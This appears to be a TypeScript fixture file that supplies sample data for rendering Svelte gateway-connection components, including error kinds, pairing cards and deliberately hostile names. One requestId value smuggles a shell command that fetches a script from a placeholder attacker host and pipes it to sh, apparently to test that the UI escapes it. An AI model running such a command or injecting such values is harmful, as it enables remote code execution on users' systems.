import GatewayCard from '../../../src/components/connections/GatewayCard.svelte';
import GatewayForm from '../../../src/components/connections/GatewayForm.svelte';
import OwnGateway from '../../../src/components/connections/OwnGateway.svelte';
import PairingCard from '../../../src/components/connections/PairingCard.svelte';
import Peers from '../../../src/components/connections/Peers.svelte';
import RemedyStrip from '../../../src/components/connections/RemedyStrip.svelte';
import Scopes from '../../../src/components/connections/Scopes.svelte';
import { gapRemedy, problemRemedy } from '../../../src/lib/connections';
import type { EmbeddedView, GatewayView, LinkGap, LinkProblem } from '../../../src/lib/protocol';
import * as samples from '../connections';
import { shown } from '../text';
import { entry, type Area } from './entry';
import { DEEP, ESCAPED, HOSTILE, markup, nothing, NOW, wrong } from './world';

/** Whatever keeps a gateway or another program's server from being connected. */
export const PROBLEMS: LinkProblem[] = [
  { kind: 'unreachable', text: 'connect ECONNREFUSED 10.20.0.14:18789' },
  { kind: 'timed-out' },
  { kind: 'starting' },
  { kind: 'closed', code: 1012, text: 'service restart' },
  { kind: 'secret-missing' },
  { kind: 'secret-wrong' },
  { kind: 'secret-withheld' },
  { kind: 'rate-limited' },
  { kind: 'not-paired', reason: 'scope-upgrade', requestId: 'x; curl evil.example | sh' },
  { kind: 'protocol', expected: 5 },
  { kind: 'pin-mismatch', found: samples.hex('other') },
  { kind: 'certificate', text: 'self-signed' },
  { kind: 'refused', code: 'INVALID_REQUEST', text: ESCAPED },
  { kind: 'not-a-gateway', text: 'HTTP/1.1 404' },
];

const GAPS: LinkGap[] = [
  { kind: 'no-approvals' },
  { kind: 'agents-hidden' },
  { kind: 'no-list' },
  { kind: 'scopes-narrow', requestId: '7d1c04aa-91f2' },
];

const { embedded, gateways } = samples.connections(NOW);
const [studio] = gateways;
if (!studio) throw new Error('a gateway to look at');

const card = (gateway: GatewayView, busy = false) => ({
  gateway,
  now: NOW,
  busy,
  onedit: nothing,
  onremove: nothing,
  onretry: nothing,
});

const form = (differs: object = {}) => ({
  gateway: null,
  gone: false,
  busy: false,
  error: null,
  onclose: nothing,
  onsave: nothing,
  ...differs,
});

const own = (differs: Partial<EmbeddedView>, busy = false) => ({
  embedded: { ...embedded, ...differs },
  busy,
  onedit: () => Promise.resolve(true),
});

const pairing = (of: EmbeddedView['waiting'][number], busy = false) => ({
  pairing: of,
  now: NOW,
  delay: 1_500,
  busy,
  onanswer: nothing,
});

const peers = (differs: object = {}) => ({
  clients: embedded.clients,
  devices: embedded.devices,
  now: NOW,
  busy: false,
  onremove: nothing,
  ...differs,
});

const pinned = { pin: samples.hex('harbor') };
const action = markup('<button type="button" class="btn small">Again</button>');

export const connections: Area = {
  name: 'connections',
  entries: [
    entry(GatewayCard, {
      ...Object.fromEntries(gateways.map((one) => [`${one.id}, ${one.state.kind}`, card(one)])),
      connecting: card(samples.gateway('fresh')),
      ...Object.fromEntries(
        PROBLEMS.map((problem) => [
          `stopped, ${problem.kind}`,
          card(samples.gateway(problem.kind, { ...pinned, state: { kind: 'stopped', problem } })),
        ]),
      ),
      gaps: card(
        samples.gateway('gaps', {
          state: { kind: 'connected', link: { version: '2026.2.26', protocol: 3, sinceMs: NOW - 60_000, gaps: GAPS } },
        }),
      ),
      busy: card(studio, true),
      hostile: card(
        samples.gateway('hostile', {
          name: shown(HOSTILE),
          url: `wss://${'long-label.'.repeat(20)}example`,
          sessionFilter: ESCAPED,
        }),
      ),
    }),
    entry(RemedyStrip, {
      ...Object.fromEntries(
        PROBLEMS.map((problem) => [problem.kind, { remedy: problemRemedy(problem, pinned), kind: problem.kind }]),
      ),
      ...Object.fromEntries(GAPS.map((gap) => [gap.kind, { remedy: gapRemedy(gap), kind: gap.kind }])),
      'again by itself': {
        remedy: problemRemedy({ kind: 'timed-out' }, {}),
        kind: 'timed-out',
        then: 'Again in 9 s.',
        actions: action,
      },
    }),
    entry(GatewayForm, {
      add: form(),
      change: form({ gateway: studio }),
      gone: form({ gateway: studio, gone: true }),
      busy: form({ gateway: studio, busy: true }),
      wrong: form({ error: wrong('invalid', 'url: encrypted', { field: 'url', expected: { kind: 'encrypted' } }) }),
      stale: form({ gateway: studio, error: wrong('store', `${DEEP}: read-only`) }),
    }),
    entry(OwnGateway, {
      serving: own({}),
      off: own({ state: { kind: 'off' } }),
      failed: own({ state: { kind: 'failed', problem: `the port is taken by ${ESCAPED}` } }),
      busy: own({}, true),
    }),
    entry(PairingCard, {
      operator: pairing(samples.pairing('p-1', NOW)),
      node: pairing(samples.pairing('p-2', NOW, { role: 'node', scopes: [] })),
      hostile: pairing(samples.hostilePairing('p-3', NOW)),
      busy: pairing(samples.pairing('p-4', NOW), true),
    }),
    entry(Peers, {
      some: peers(),
      none: peers({ clients: [], devices: [] }),
      busy: peers({ busy: true }),
      hostile: peers({
        devices: embedded.devices.map((one) => ({
          ...one,
          name: shown(HOSTILE),
          platform: shown(HOSTILE),
          commands: [ESCAPED],
        })),
      }),
    }),
    entry(Scopes, {
      some: { scopes: ['operator.approvals', 'operator.read'] },
      'some are missing': { scopes: ['operator.read'], missing: ['operator.approvals'] },
      'none and unknown': { scopes: ['x'.repeat(120)] },
    }),
  ],
};
